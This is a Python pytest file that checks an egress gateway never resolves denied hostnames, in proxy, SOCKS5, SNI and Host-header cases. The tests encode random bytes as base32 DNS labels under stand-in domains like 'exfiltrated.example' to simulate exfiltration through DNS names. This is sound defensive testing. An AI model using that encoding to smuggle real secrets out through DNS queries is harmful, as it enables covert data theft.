"""Threat 22: names as messages. An explicit proxy asks for a name after the verdict, so no denied name is ever asked.

(The gateway as a name server for its clients is tested where that is built.)
"""

import base64
import os

import pytest

from support.http import client_hello, connect_refusal, request_via_proxy, socks5_connect
from support.lab import ALLOWED, Lab, alert_for, rule

EXTRA_RULES = rule("odd", "*.odd.example", "80 http") + rule("odd-denied", "*.no.odd.example", "80 http", action="deny")
TIMES = 50


def secret() -> str:
    """A label that carries 30 bytes out."""
    return base64.b32encode(os.urandom(30)).decode().lower().rstrip("=")


def test_threat_22_denied_names_are_never_asked_for(lab: Lab) -> None:
    with lab.refused("no_rule", times=4 * TIMES):
        for number in range(TIMES):
            names = [f"{secret()}.{number}.exfiltrated.example", f"{secret()}.{ALLOWED}"]
            assert request_via_proxy(lab.gateway, "GET", f"http://{names[0]}/").status == 403
            assert request_via_proxy(lab.gateway, "GET", f"http://{names[1]}/").status == 403
            assert connect_refusal(lab.gateway, f"{names[0]}:443").status == 403
            code, sock = socks5_connect(lab.socks, names[0], 443)
            sock.close()
            assert code == 2
    assert lab.dns.queries == []


def test_threat_22_nor_are_names_in_the_other_claims(lab: Lab) -> None:
    with lab.refused("sni_mismatch", times=TIMES):
        for _ in range(TIMES):
            alert_for(lab.tunnel("connect", ALLOWED), client_hello(f"{secret()}.exfiltrated.example"))
    with lab.refused("host_mismatch", times=TIMES):
        for _ in range(TIMES):
            host = {"Host": f"{secret()}.exfiltrated.example"}
            assert request_via_proxy(lab.gateway, "GET", f"http://{ALLOWED}/", host).status == 421
    assert lab.dns.queries == []


def test_threat_22_nor_names_that_a_rule_denies_or_allows_on_another_port(lab: Lab) -> None:
    with lab.refused("denied_by_rule", times=TIMES):
        for _ in range(TIMES):
            assert request_via_proxy(lab.gateway, "GET", f"http://{secret()}.no.odd.example/").status == 403
    with lab.refused("port_not_allowed", times=TIMES):
        for _ in range(TIMES):
            assert request_via_proxy(lab.gateway, "GET", f"http://{secret()}.odd.example:8080/").status == 403
    assert lab.dns.queries == []


@pytest.mark.parametrize("what", ["an opened tunnel", "half a hello"])
def test_threat_22_a_tunnel_alone_asks_for_nothing(lab: Lab, what: str) -> None:
    """What may leave hangs on the first bytes, so until then not even the name does."""
    with lab.tunnel("connect", ALLOWED) as sock:
        if what == "half a hello":
            sock.sendall(client_hello(ALLOWED)[:100])
        lab.gateway.metrics()  # a round trip of the gateway's loop
        assert lab.dns.queries == []
        lab.assert_nothing_left()


def test_threat_22_allowed_names_are_asked_for_once(lab: Lab) -> None:
    """The control, and the cache."""
    lab.dns.set("fine.odd.example", ["203.0.113.10"], ttl=60)
    for _ in range(3):
        assert request_via_proxy(lab.gateway, "GET", "http://fine.odd.example/").status == 200
    assert lab.dns.count("fine.odd.example", "A") == 1
    assert {query.name for query in lab.dns.queries} == {"fine.odd.example"}
